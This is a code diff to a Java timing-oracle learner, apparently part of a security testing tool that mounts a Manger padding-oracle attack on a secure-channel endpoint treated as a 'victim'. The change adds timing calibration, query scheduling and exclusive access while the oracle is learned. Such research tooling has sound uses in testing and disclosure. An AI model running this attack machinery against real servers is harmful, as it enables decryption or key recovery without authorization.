@@ -2,6 +2,7 @@ package attacks.manger.oracle.learner;
 
 import attacks.manger.oracle.Oracle;
 import attacks.manger.oracle.OracleException;
+import attacks.manger.oracle.QueryScheduler;
 import attacks.manger.oracle.TimingOracle;
 import attacks.manger.oracle.VictimProxy;
 import attacks.manger.oracle.timing.DecisionRule;
@@ -14,6 +15,7 @@ import reporting.entry.Group;
 import reporting.entry.ThrowableEntry;
 import reporting.entry.ValueEntry;
 import transport.SecureChannelUtil;
+import transport.tcp.timing.ResponseTimingEngine;
 
 import java.io.IOException;
 
@@ -42,17 +44,28 @@ public class TimingOracleLearner implements OracleLearner {
     @Override
     public LearningResult learn(Endpoint endpoint) throws OracleException {
         try {
+            ResponseTimingEngine timingEngine = ResponseTimingEngine.shared();
+            if(!timingEngine.isCalibrated()) {
+                timingEngine.calibrate();
+            }
             byte[] validCiphertext = SecureChannelUtil.generateEncryptedOpnRequest(endpoint, localKeyPair);
             VictimProxy victimProxy = new VictimProxy(endpoint, validCiphertext);
+            victimProxy.setQueryScheduler(QueryScheduler.forEndpoint(endpoint), QueryScheduler.Priority.CALIBRATION);
             LinearDecisionRule rule = new LinearDecisionRule(victimProxy, rounds, sampleSize);
-            rule.learn();
+            victimProxy.beginExclusive();
+            try {
+                rule.learn();
+            } finally {
+                victimProxy.endExclusive();
+            }
 
             Entry report = new Group("TimingOracleLearner")
                     .addSubEntry(new ValueEntry<>("Successful", "n/a"))
                     .addSubEntry(new ValueEntry<>("Timing Difference", Math.abs(rule.getDecisionBoundary().getEmpMeanLessB() - rule.getDecisionBoundary().getEmpMeanGeqB())))
                     .addSubEntry(new ValueEntry<>("Empirical Mean for \"<B\"", rule.getDecisionBoundary().getEmpMeanLessB()))
                     .addSubEntry(new ValueEntry<>("Empirical Mean for \">=B\"", rule.getDecisionBoundary().getEmpMeanGeqB()))
-                    .addSubEntry(new ValueEntry<>("Mean Empirical Standard Deviation", rule.getDecisionBoundary().getMeanEmpStandardDeviation()));
+                    .addSubEntry(new ValueEntry<>("Mean Empirical Standard Deviation", rule.getDecisionBoundary().getMeanEmpStandardDeviation()))
+                    .addSubEntry(timingEngine.toReport());
             Oracle oracle = new TimingOracle(rule);
 
             return new LearningResult(oracle, report);